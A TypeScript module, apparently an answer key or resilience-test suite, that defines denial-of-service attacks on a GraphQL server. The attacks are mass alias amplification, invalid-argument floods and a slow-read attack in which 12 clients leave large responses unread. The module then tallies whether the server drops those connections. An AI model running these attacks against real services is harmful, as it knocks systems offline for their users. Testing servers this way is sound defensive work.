import type { Socket } from 'node:net';
import type { Attack, Target } from '../attack.ts';
import { Client } from '../client.ts';

const aliases = (count: number, field: string): string =>
  Array.from({ length: count }, (_, index) => `a${index}: ${field}`).join(' ');

const bodies = (articles: number, count: number): string =>
  `{ articles(first: ${articles}) { edges { node { ${aliases(count, 'body')} } } } }`;

/** Returns an HTTP request as text, for a connection whose response is not read. */
export function bytesOf({ url }: Target, headers: string, body = ''): string {
  const { host, pathname } = new URL(url);
  const method = body === '' ? 'GET' : 'POST';
  const length = body === '' ? '' : `Content-Length: ${Buffer.byteLength(body)}\r\n`;
  return `${method} ${pathname} HTTP/1.1\r\nHost: ${host}\r\n${headers}\r\n${length}\r\n${body}`;
}

/** The time during which the responses are not read, in milliseconds. */
const UNREAD = 38_000;

/** Returns the query with the largest response that the server accepts; null if the server rejects all of them. */
async function largestAccepted(client: Client): Promise<string | null> {
  for (const count of [80, 40, 20, 10, 5, 2, 1]) {
    const query = bodies(100, count);
    const reply = await client.post({ query });
    if (reply?.status === 200 && reply.body.startsWith('{"data":{')) return query;
  }
  return null;
}

export const ANSWERS: readonly Attack[] = [
  {
    row: 'H8',
    title: '900 aliases of an invalid argument in each of 100 articles',
    seconds: 30,
    run: (client) =>
      client.repeat({
        query: `{ articles(first: 100) { edges { node { ${aliases(900, 'people(first: -1) { __typename }')} } } } }`,
      }),
  },
  {
    row: 'H9',
    title: '60, 800 and 3,000 aliases of the body of each of 20 articles',
    seconds: 40,
    async run(client) {
      for (const count of [60, 800, 3_000]) await client.repeat({ query: bodies(20, count) });
    },
  },
  {
    row: 'H10',
    title: '12 clients that send 8 queries with large responses and do not read',
    seconds: 45,
    async run(client, target) {
      const query = await largestAccepted(client);
      if (query === null) return;
      const headers = 'Content-Type: application/json\r\nAccept: application/json';
      const text = bytesOf(target, headers, JSON.stringify({ query }));
      const sockets: Socket[] = [];
      await Client.inParallel(12, async () => void sockets.push(await client.sendUnread(text.repeat(8))));
      await Client.wait(UNREAD);
      // A socket does not emit 'end' or 'close' until its data has been consumed.
      for (const socket of sockets) socket.resume();
      await Client.wait(1_000);
      const open = sockets.filter((socket) => !socket.closed).length;
      for (let count = open; count < sockets.length; count++) client.tally.count('closed by the server');
      if (open > 0) client.tally.report(`${open} unread connections open after ${UNREAD / 1_000} s`);
    },
  },
];
